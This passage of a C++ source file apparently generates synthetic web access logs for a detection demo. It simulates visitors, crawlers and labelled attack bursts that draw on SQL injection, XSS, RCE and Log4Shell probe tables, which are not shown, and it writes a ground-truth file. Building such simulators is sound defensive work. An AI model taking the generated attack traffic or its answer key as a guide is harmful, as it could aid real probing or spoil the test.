      for (int k = 0; k < 12; ++k) ips.push_back(std::string(c.ip_prefix) + IntStr(r.Range(1, 254)));
      crawler_ips_.push_back(std::move(ips));
    }

    for (int k = 0; k < 400; ++k) attack_ips_.push_back(make_ip(r, r.Pick(S(kAttackPrefixes))));
    // The surge campaign is one botnet hitting every site: its pool depends on the seed only.
    Rng surge(DeriveSeed(opt_seed, 0x5E26E));
    for (int k = 0; k < 300; ++k) surge_ips_.push_back(make_ip(surge, surge.Pick(S(kSurgePrefixes))));
  }

  Event& Push(std::vector<Event>& events, int64_t t, const std::string* ip,
              std::string_view method, std::string_view target, int status, int64_t bytes,
              std::string_view referer, std::string_view ua, bool attack) {
    Event& e = events.emplace_back();
    e.t = static_cast<int32_t>(t);
    e.seq = seq_++;
    e.ip = ip;
    e.attack = attack;
    std::string& r = e.rest;
    r.reserve(32 + target.size() + referer.size() + ua.size());
    r.push_back('"');
    r.append(method);
    r.push_back(' ');
    r.append(target);
    r.append(" HTTP/1.1\" ");
    AppendInt(r, status);
    r.push_back(' ');
    AppendInt(r, bytes);
    r.append(" \"");
    r.append(referer.empty() ? "-"sv : referer);
    r.append("\" \"");
    r.append(ua);
    r.push_back('"');
    return e;
  }

  // Shifts the events [first, end) (relative times) to start at `start`, keeping them in the day.
  static void Place(std::vector<Event>& events, std::size_t first, int64_t start) {
    int32_t span = 0;
    for (std::size_t i = first; i < events.size(); ++i) span = std::max(span, events[i].t);
    span = std::min(span, kDaySeconds - 1);
    const int64_t latest = kDaySeconds - 1 - span;
    const auto s = static_cast<int32_t>(std::min(start, latest));
    for (std::size_t i = first; i < events.size(); ++i) {
      events[i].t = std::min(events[i].t + s, kDaySeconds - 1);
    }
  }

  int64_t HumanStart() {
    const auto hour = static_cast<int64_t>(traffic_rng_.Weighted(W(kHourProfile)));
    return hour * 3600 + traffic_rng_.Range(0, 3599);
  }

  int64_t PageBytes(const PageHit& p) {
    if (p.missing) return not_found_bytes_;
    return StableSize(p.path, 6000, 42000) + traffic_rng_.Range(0, 400);
  }

  PageHit RandomPage() {
    Rng& r = traffic_rng_;
    PageHit p;
    switch (kind_) {
      case SiteKind::kShop: {
        static constexpr std::array<double, 8> kW = {14, 40, 15, 12, 7, 3, 6, 1.5};
        p.kind = static_cast<int>(r.Weighted(W(kW)));
        switch (p.kind) {
          case 0: p.path = "/"; break;
          case 1:
            p.id = r.Range(1001, 1600);
            p.path = "/products/" + IntStr(p.id);
            break;
          case 2:
            p.path = "/category/" + std::string(r.Pick(S(kShopCategories)));
            if (r.Chance(0.2)) p.path += "?page=" + IntStr(r.Range(2, 6));
            break;
          case 3:
            p.path = "/search?q=" + std::string(r.Pick(S(kShopWords))) + "&page=" +
                     IntStr(r.Chance(0.7) ? 1 : r.Range(2, 4));
            break;
          case 4: p.path = "/cart"; break;
          case 5: p.path = "/checkout"; break;
          case 6: {
            static constexpr std::array<std::string_view, 5> kInfo = {
                "/guide/shipping", "/guide/returns", "/guide/payment", "/about", "/faq"};
            p.path = std::string(r.Pick(S(kInfo)));
            break;
          }
          default: {
            p.missing = true;
            const auto which = r.Below(3);
            p.path = which == 0   ? "/products/" + IntStr(r.Range(9000, 9999))
                     : which == 1 ? std::string("/sale/2020-winter")
                                  : std::string("/campaign/summer-2019");
            break;
          }
        }
        break;
      }
      case SiteKind::kCorp: {
        static constexpr std::array<double, 12> kW = {20, 10, 5, 8, 25, 10, 6, 6, 10, 3, 2, 1.5};
        p.kind = static_cast<int>(r.Weighted(W(kW)));
        switch (p.kind) {
          case 0: p.path = "/"; break;
          case 1: p.path = "/about"; break;
          case 2: {
            static constexpr std::array<std::string_view, 3> kCo = {
                "/company/profile", "/company/access", "/company/history"};
            p.path = std::string(r.Pick(S(kCo)));
            break;
          }
          case 3: p.path = "/news"; break;
          case 4: {
            const int64_t year = r.Range(2019, 2022);
            p.id = r.Range(1, year == 2022 ? 24 : 120);
            p.path = "/news/" + IntStr(year) + "/" + Pad(p.id, 3);
            p.id += year * 1000;
            break;
          }
          case 5: p.path = "/recruit"; break;
          case 6: p.path = "/recruit/" + std::string(r.Pick(S(kCorpJobs))); break;
          case 7: p.path = "/contact"; break;
          case 8: p.path = "/services/" + std::string(r.Pick(S(kCorpServices))); break;
          case 9: p.path = r.Chance(0.5) ? "/ir" : "/ir/library"; break;
          case 10: p.path = "/privacy"; break;
          default: {
            p.missing = true;
            const auto which = r.Below(3);
            p.path = which == 0   ? "/news/2016/" + Pad(r.Range(1, 99), 3)
                     : which == 1 ? std::string("/english/")
                                  : std::string("/recruit/2020-intern");
            break;
          }
        }
        break;
      }
      case SiteKind::kBlog: {
        static constexpr std::array<double, 9> kW = {12, 55, 10, 6, 5, 5, 4, 3, 1.5};
        p.kind = static_cast<int>(r.Weighted(W(kW)));
        switch (p.kind) {
          case 0: p.path = "/"; break;
          case 1:
            p.id = static_cast<int64_t>(r.Skewed(kBlogPlaces.size() * kBlogTopics.size()));
            p.path = "/posts/" + PostSlug(p.id);
            break;
          case 2: p.path = "/tag/" + std::string(r.Pick(S(kBlogTags))); break;
          case 3: p.path = "/category/" + std::string(r.Pick(S(kBlogPlaces))); break;
          case 4: p.path = "/feed"; break;
          case 5: p.path = "/page/" + IntStr(r.Range(2, 20)); break;
          case 6: p.path = "/about"; break;
          case 7: p.path = "/archives/2021/" + Pad(r.Range(1, 12), 2); break;
          default: {
            p.missing = true;
            const auto which = r.Below(3);
            p.path = which == 0   ? "/posts/" + PostSlug(static_cast<int64_t>(r.Below(100))) + "-old"
                     : which == 1 ? std::string("/2018/07/hello-world")
                                  : "/tag/" + std::string(r.Pick(S(kBlogTags))) + "/page/9";
            break;
          }
        }
        break;
      }
      case SiteKind::kBrochure: {
        static constexpr std::array<double, 4> kW = {30, 63, 6, 1};
        p.kind = static_cast<int>(r.Weighted(W(kW)));
        switch (p.kind) {
          case 0: p.path = "/"; break;
          case 1: p.path = std::string(r.Pick(S(kBrochurePages))); break;
          case 2: p.path = "/contact"; break;
          default:
            p.missing = true;
            p.path = r.Chance(0.5) ? "/index.htm" : "/en/";
            break;
        }
        break;
      }
    }
    return p;
  }

  static std::string PostSlug(int64_t id) {
    const auto i = static_cast<std::size_t>(id) % (kBlogPlaces.size() * kBlogTopics.size());
    return std::string(kBlogPlaces[i % kBlogPlaces.size()]) + "-" +
           std::string(kBlogTopics[i / kBlogPlaces.size()]);
  }

  struct Asset {
    std::string path;
    int64_t lo, hi;
    bool cacheable;  // static file a returning visitor revalidates (304)
  };

  // The assets a page pulls in. Shared static files only on the first page of a session.
  void PageAssets(const PageHit& p, bool first, std::vector<Asset>& out) {
    Rng& r = traffic_rng_;
    out.clear();
    auto add_static = [&](std::initializer_list<std::string_view> paths) {
      for (std::string_view s : paths) {
        const bool js = s.ends_with(".js");
        out.push_back({std::string(s), js ? 12000 : 2500, js ? 160000 : 30000, true});
      }
      out.push_back({"/favicon.ico", 1150, 1151, true});
    };
    auto add_image = [&](std::string path) {
      out.push_back({std::move(path), 18000, 320000, false});
    };
    switch (kind_) {
      case SiteKind::kShop:
        if (first) {
          add_static({"/static/css/main.css", "/static/css/shop.css", "/static/js/vendor.js",
                      "/static/js/app.js"});
        }
        if (p.kind == 0) {
          for (int64_t k = 0, n = r.Range(2, 4); k < n; ++k) {
            add_image("/images/banner/" + IntStr(r.Range(1, 6)) + ".jpg");
          }
        } else if (p.kind == 1) {
          for (int64_t k = 1, n = r.Range(1, 4); k <= n; ++k) {
            add_image("/images/products/" + IntStr(p.id) + "_" + IntStr(k) + ".jpg");
          }
        } else if (p.kind == 2 || p.kind == 3) {
          for (int64_t k = 0, n = r.Range(3, 8); k < n; ++k) {
            add_image("/images/products/" + IntStr(r.Range(1001, 1600)) + "_1.jpg");
          }
        }
        break;
      case SiteKind::kCorp:
        if (first) add_static({"/static/css/main.css", "/static/js/main.js"});
        if (p.kind == 0) add_image("/images/hero.jpg");
        if (p.kind == 4) add_image("/images/news/" + IntStr(p.id) + ".jpg");
        if (p.kind == 5 || p.kind == 6) add_image("/images/recruit/team.jpg");
        break;
      case SiteKind::kBlog:
        if (first) {
          add_static({"/wp-content/themes/minimal/style.css",
                      "/wp-content/themes/minimal/js/theme.js"});
        }
        if (p.kind == 1) {
          const int64_t month = 1 + p.id % 12;
          for (int64_t k = 1, n = r.Range(1, 4); k <= n; ++k) {
            add_image("/wp-content/uploads/2021/" + Pad(month, 2) + "/" + PostSlug(p.id) + "-" +
                      IntStr(k) + ".jpg");
          }
        } else if (p.kind == 0 || p.kind == 2 || p.kind == 3 || p.kind == 5) {
          for (int64_t k = 0; k < 3; ++k) {
            const auto post = static_cast<int64_t>(r.Below(100));
            add_image("/wp-content/uploads/2021/" + Pad(1 + post % 12, 2) + "/" + PostSlug(post) +
                      "-1.jpg");
          }
        }
        break;
      case SiteKind::kBrochure:
        if (first) add_static({"/static/css/style.css", "/static/js/main.js"});
        if (p.kind == 0) add_image("/images/top.jpg");
        if (p.path == "/gallery") {
          for (int64_t k = 1; k <= 6; ++k) add_image("/images/gallery/" + IntStr(k) + ".jpg");
        }
        if (p.path == "/menu") add_image("/images/menu.jpg");
        break;
    }
  }

  // One visitor: pages with their assets. Returns the number of lines added (<= budget, >= 1).
  uint64_t HumanSession(std::vector<Event>& events, uint64_t budget) {
    Rng& r = traffic_rng_;
    const std::size_t first_event = events.size();
    const Client& c = clients_[r.Skewed(clients_.size())];
    const std::string* ip = &human_ips_[c.ip];
    const std::string_view ua = kBrowserUas[c.ua].ua;

    std::string referer;
    const double u = r.Uniform();
    if (u < 0.35) referer = "https://www.google.com/";
    else if (u < 0.45) referer = "https://search.yahoo.co.jp/";
    else if (u < 0.49) referer = "https://www.bing.com/";
    else if (u < 0.53) referer = "https://t.co/";
    else referer = "-";

    const uint64_t pages = 1 + std::min<uint64_t>(r.Poisson(1.7), 11);
    uint64_t added = 0;
    double t = 0;
    std::vector<Asset>& assets = asset_scratch_;
    std::string forced_next;
    for (uint64_t i = 0; i < pages && added < budget; ++i) {
      PageHit p;
      if (!forced_next.empty()) {
        p.path = std::move(forced_next);
        p.kind = -1;
        forced_next.clear();
      } else {
        p = RandomPage();
      }
      const auto tp = static_cast<int64_t>(t);
      Push(events, tp, ip, "GET", p.path, p.missing ? 404 : 200, PageBytes(p), referer, ua, false);
      ++added;
      const std::string page_url = site_url_ + p.path;
      if (!p.missing) {
        PageAssets(p, i == 0, assets);
        for (const Asset& a : assets) {
          if (added >= budget) break;
          const bool revalidate = a.cacheable && c.returning;
          Push(events, tp + r.Range(0, 2), ip, "GET", a.path, revalidate ? 304 : 200,
               revalidate ? 0 : StableSize(a.path, a.lo, a.hi), page_url, ua, false);
          ++added;
        }
        // Forms: add to cart on the shop, the contact form on the corporate site.
        if (added < budget && kind_ == SiteKind::kShop && p.kind == 1 && r.Chance(0.12)) {
          t += 4 + r.Exponential(15);
          Push(events, static_cast<int64_t>(t), ip, "POST", "/cart/add", 302, 0, page_url, ua,
               false);
          ++added;
          forced_next = "/cart";
        } else if (added < budget && p.path == "/contact" && kind_ != SiteKind::kShop &&
                   r.Chance(0.15)) {
          t += 30 + r.Exponential(90);
          Push(events, static_cast<int64_t>(t), ip, "POST", "/contact", 302, 0, page_url, ua,
               false);
          ++added;
          forced_next = "/contact/thanks";
        }
      }
      referer = page_url;
      t += 3 + r.Exponential(forced_next.empty() ? 40 : 1);
    }
    Place(events, first_event, HumanStart());
    return added;
  }

  // The blog's author signing in to WordPress (real, successful requests: not an attack).
  uint64_t AuthorSession(std::vector<Event>& events, uint64_t budget) {
    static constexpr std::string_view kUa = kBrowserUas[5].ua;
    const std::size_t first_event = events.size();
    const std::string login = site_url_ + "/wp-login.php";
    Push(events, 0, &author_ip_, "GET", "/wp-login.php", 200, 4300, "-", kUa, false);
    Push(events, 9, &author_ip_, "POST", "/wp-login.php", 302, 0, login, kUa, false);
    Push(events, 10, &author_ip_, "GET", "/wp-admin/", 200, 52000, login, kUa, false);
    Place(events, first_event, 20 * 3600 + traffic_rng_.Range(0, 3 * 3600));
    return std::min<uint64_t>(3, budget);
  }

  static bool IsPrivatePath(std::string_view path) {
    return path.starts_with("/cart") || path.starts_with("/checkout") ||
           path.starts_with("/search");
  }

  // A good crawler: robots.txt, sitemap and some pages. Returns lines added (<= budget).
  uint64_t CrawlerSession(std::vector<Event>& events, uint64_t budget) {
    Rng& r = traffic_rng_;
    static constexpr std::array<double, kCrawlers.size()> kW = {
        kCrawlers[0].weight, kCrawlers[1].weight, kCrawlers[2].weight, kCrawlers[3].weight,
        kCrawlers[4].weight};
    const std::size_t bot = r.Weighted(W(kW));
    const std::string* ip = &r.Pick(std::span<const std::string>(crawler_ips_[bot]));
    const std::string_view ua = kCrawlers[bot].ua;
    const std::size_t first_event = events.size();
    uint64_t added = 0;
    double t = 0;
    if (r.Chance(0.35)) {
      Push(events, 0, ip, "GET", "/robots.txt", 200, StableSize(spec_.name, 90, 260), "-", ua,
           false);
      ++added;
      t += 1 + r.Exponential(5);
    }
    if (added < budget && r.Chance(0.12)) {
      Push(events, static_cast<int64_t>(t), ip, "GET", "/sitemap.xml", 200,
           StableSize(spec_.name, 2500, 12000), "-", ua, false);
      ++added;
      t += 1 + r.Exponential(5);
    }
    const uint64_t pages = 1 + std::min<uint64_t>(r.Poisson(2.0), 10);
    for (uint64_t i = 0; i < pages && added < budget; ++i) {
      PageHit p = RandomPage();
      // Crawlers keep out of the cart and site search (robots.txt disallows them).
      for (int retry = 0; retry < 8 && IsPrivatePath(p.path); ++retry) p = RandomPage();
      if (IsPrivatePath(p.path)) p = PageHit{"/", false, 0, 0};
      Push(events, static_cast<int64_t>(t), ip, "GET", p.path, p.missing ? 404 : 200,
           PageBytes(p), "-", ua, false);
      ++added;
      t += 1 + r.Exponential(20);
    }
    // Flat over the day.
    Place(events, first_event, r.Range(0, kDaySeconds - 1));
    return added;
  }

  static int64_t ErrorBytes(int status, int64_t not_found) {
    switch (status) {
      case 400: return 157;
      case 403: return 153;
      case 404: return not_found;
      case 405: return 157;
      case 500: return 177;
      default: return 0;
    }
  }

  // A burst of attack requests from one source. Returns lines added (<= budget, >= 1).
  uint64_t AttackBurst(std::vector<Event>& events, uint64_t budget, double m) {
    Rng& r = attack_rng_;
    const bool from_surge = m > 1 && r.Chance((m - 1) / m);
    const std::string* ip =
        from_surge ? &surge_ips_[static_cast<std::size_t>(r.Below(surge_ips_.size()))]
                   : &attack_ips_[r.Skewed(attack_ips_.size())];
    const auto kind =
        static_cast<AttackKind>(r.Weighted(from_surge ? W(kAttackWeightsSurge) : W(kAttackWeightsBg)));

    const uint64_t len = std::min<uint64_t>(
        budget, 1 + std::min<uint64_t>(r.Poisson(kind == AttackKind::kScannerUa ? 4.0 : 1.5), 20));
    std::string_view ua;
    switch (kind) {
      case AttackKind::kScannerUa:
        ua = kScannerUas[r.Weighted(from_surge ? W(kScannerWeightsSurge) : W(kScannerWeightsBg))];
        break;
      case AttackKind::kBadBot: ua = kBadBotUas[r.Weighted(W(kBadBotWeights))]; break;
      default: ua = r.Pick(S(kAttackBrowserUas)); break;
    }
    const bool wordpress = kind_ == SiteKind::kBlog;
    const std::size_t admin_n = wordpress ? kAdminNonWordPress : kAdminProbes.size();
    auto probe_status = [&](const Probe& p) { return r.Chance(0.25) ? p.alt_status : p.status; };

    const std::size_t first_event = events.size();
    int64_t t = 0;
    for (uint64_t i = 0; i < len; ++i) {
      std::string_view method = "GET";
      std::string target;
      std::string_view line_ua = ua;
      int status = 404;
      int64_t bytes = -1;
      switch (kind) {
        case AttackKind::kScannerUa: {
          if (r.Chance(0.3)) {
            const Probe& p = r.Chance(0.5) ? r.Pick(S(kSensitiveProbes))
                                           : kAdminProbes[static_cast<std::size_t>(r.Below(admin_n))];
            target = std::string(p.target);
            method = p.method;
            status = probe_status(p);
          } else {
            target = std::string(r.Pick(S(kScanPaths)));
            if (r.Chance(0.2)) target = "/" + IntStr(static_cast<int64_t>(r.Below(1000000)));
            if (target == "/") {
              status = 200;
              bytes = StableSize(spec_.name, 8000, 30000);
            } else if (target == "/robots.txt" || target == "/favicon.ico") {
              status = 200;
              bytes = target == "/favicon.ico" ? 1150 : StableSize(spec_.name, 90, 260);
            }
            if (r.Chance(0.15)) {
              method = "HEAD";
              bytes = 0;
            }
          }
          break;
        }
        case AttackKind::kBadBot: {
          const bool scripted = ua == kBadBotUas[kFirstScriptedBot] ||
                                ua == kBadBotUas[kFirstScriptedBot + 1] ||
                                ua == kBadBotUas[kFirstScriptedBot + 2];
          if (scripted && r.Chance(0.3)) {
            const Probe& p = r.Pick(S(kSensitiveProbes));
            target = std::string(p.target);
            status = probe_status(p);
          } else {
            // Scrapers fetch ordinary pages (sometimes the odd missing one).
            const PageHit p = RandomPage();
            target = p.path;
            status = p.missing ? 404 : 200;
            bytes = p.missing ? not_found_bytes_ : StableSize(p.path, 6000, 42000);
          }
          break;
        }
        case AttackKind::kSensitive:
        case AttackKind::kAdmin:
        case AttackKind::kBackdoor:
        case AttackKind::kCve:
        case AttackKind::kTraversal:
        case AttackKind::kSqli:
        case AttackKind::kXss:
        case AttackKind::kRce: {
          const Probe* p = nullptr;
          std::size_t index = 0;
          switch (kind) {
            case AttackKind::kSensitive: p = &r.Pick(S(kSensitiveProbes)); break;
            case AttackKind::kAdmin:
              p = &kAdminProbes[static_cast<std::size_t>(r.Below(admin_n))];
              break;
            case AttackKind::kBackdoor: p = &r.Pick(S(kBackdoorProbes)); break;
            case AttackKind::kCve: p = &r.Pick(S(kCveProbes)); break;
            case AttackKind::kTraversal: p = &r.Pick(S(kTraversalProbes)); break;
            case AttackKind::kSqli: p = &r.Pick(S(kSqliProbes)); break;
            case AttackKind::kXss: p = &r.Pick(S(kXssProbes)); break;
            default:
              index = static_cast<std::size_t>(r.Below(kRceProbes.size()));
              p = &kRceProbes[index];
              if (index == kRceInUa) line_ua = kLog4ShellUa;
              break;
          }
          target = std::string(p->target);
          method = p->method;
          status = kind == AttackKind::kAdmin ? 404 : probe_status(*p);
          if (status == 200) bytes = StableSize(spec_.name, 8000, 30000);
          break;
        }
        case AttackKind::kCount: break;
      }
      if (bytes < 0) bytes = ErrorBytes(status, not_found_bytes_);
      Push(events, t, ip, method, target, status, bytes, "-", line_ua, true);
      t += kind == AttackKind::kBadBot ? r.Range(2, 30) : r.Range(0, 4);
    }
    Place(events, first_event, r.Range(0, kDaySeconds - 1));
    return len;
  }

  const SiteSpec& spec_;
  SiteKind kind_;
  Dates dates_;
  double scale_;
  bool surging_;
  uint64_t site_seed_;
  Rng count_rng_;    // daily volumes and attack counts
  Rng traffic_rng_;  // ordinary sessions
  Rng attack_rng_;   // attack bursts
  std::string site_url_;
  int64_t not_found_bytes_ = 0;
  uint32_t seq_ = 0;

  std::vector<std::string> human_ips_;
  std::vector<Client> clients_;
  std::string author_ip_;
  std::vector<std::vector<std::string>> crawler_ips_;
  std::vector<std::string> attack_ips_;
  std::vector<std::string> surge_ips_;
  std::vector<uint64_t> attack_plan_;
  std::vector<double> multiple_;
  std::vector<Asset> asset_scratch_;
};

bool ValidSiteName(std::string_view name) {
  if (name.empty() || name == "." || name == "..") return false;
  for (char c : name) {
    const bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
                    c == '.' || c == '-' || c == '_';
    if (!ok) return false;
  }
  return true;
}

Result<Truth> GenerateImpl(const Options& opt, const std::string& dir_in) {
  const std::vector<SiteSpec> sites = opt.sites.empty() ? DefaultSites() : opt.sites;

  Dates dates;
  const std::pair<const std::string*, int64_t*> parse[] = {
      {&opt.start_date, &dates.start},
      {&opt.end_date, &dates.end},
      {&opt.surge_start, &dates.surge_start},
      {&opt.surge_peak, &dates.surge_peak},
  };
  for (const auto& [text, out] : parse) {
    if (!ParseDate(*text, *out)) return Status::Error("io", "bad date \"" + *text + "\"");
  }
  if (dates.start > dates.end) {
    return Status::Error("io", "start date " + opt.start_date + " is after end date " +
                                   opt.end_date);
  }
  if (!(opt.scale >= 0) || !std::isfinite(opt.scale)) {
    return Status::Error("io", "scale must be a finite number >= 0");
  }
  bool any_surge = false;
  for (std::size_t i = 0; i < sites.size(); ++i) {
    const SiteSpec& s = sites[i];
    if (!ValidSiteName(s.name)) return Status::Error("io", "bad site name \"" + s.name + "\"");
    for (std::size_t j = 0; j < i; ++j) {
      if (sites[j].name == s.name) return Status::Error("io", "duplicate site " + s.name);
    }
    if (!(s.requests_per_day >= 0) || !(s.attacks_per_day >= 0) || !std::isfinite(s.requests_per_day) ||
        !std::isfinite(s.attacks_per_day) || !std::isfinite(s.surge_multiple)) {
      return Status::Error("io", "bad rates for site " + s.name);
    }
    if (s.surge_multiple > 1) any_surge = true;
  }
  if (any_surge && !(dates.start <= dates.surge_start && dates.surge_start <= dates.surge_peak &&
                     dates.surge_peak <= dates.end)) {
    return Status::Error("io", "surge dates must satisfy start <= surge_start <= surge_peak <= "
                               "end (" + opt.start_date + ", " + opt.surge_start + ", " +
                               opt.surge_peak + ", " + opt.end_date + ")");
  }

  const std::filesystem::path dir(dir_in.empty() ? std::string(".") : dir_in);
  std::error_code ec;
  std::filesystem::create_directories(dir, ec);
  if (ec) return Status::Error("io", dir.string() + ": " + ec.message());
  if (!std::filesystem::is_directory(dir, ec)) {
    return Status::Error("io", dir.string() + ": not a directory");
  }

  Truth truth;
  truth.surge_start = opt.surge_start;
  truth.surge_peak = opt.surge_peak;
  for (const SiteSpec& spec : sites) {
    SiteTruth st;
    st.file = spec.name + ".log";
    SiteGenerator gen(spec, opt, dates);
    if (Status s = gen.Run((dir / st.file).string(), st); !s.ok()) return s;
    truth.sites.push_back(std::move(st));
  }

  nlohmann::ordered_json j;
  j["seed"] = opt.seed;
  j["start_date"] = opt.start_date;
  j["end_date"] = opt.end_date;
  j["timezone"] = "+09:00";
  j["surge_start"] = truth.surge_start;
  j["surge_peak"] = truth.surge_peak;
  j["sites"] = nlohmann::ordered_json::array();
  for (const SiteTruth& st : truth.sites) {
    nlohmann::ordered_json s;
    s["site"] = st.site;
    s["file"] = st.file;
    s["lines"] = st.lines;
    s["attack_lines"] = st.attack_lines;
    s["baseline_daily"] = st.baseline_daily;
    s["peak_daily"] = st.peak_daily;
    s["seeded_peak_ratio"] = st.seeded_peak_ratio;
    s["realised_peak_ratio"] = st.realised_peak_ratio;
    j["sites"].push_back(std::move(s));
  }
  BufferedFile out;
  if (Status s = out.Open((dir / "truth.json").string()); !s.ok()) return s;
  out.buf() = j.dump(2);
  out.buf().push_back('\n');
  if (Status s = out.Close(); !s.ok()) return s;
  return truth;
}

}  // namespace

Result<Truth> Generate(const Options& opt, const std::string& dir) {
  try {
    return GenerateImpl(opt, dir);
  } catch (const std::exception& e) {
    return Status::Error("io", std::string("demo generation failed: ") + e.what());
  } catch (...) {
    return Status::Error("io", "demo generation failed");
  }
}

}  // namespace keikai::demo
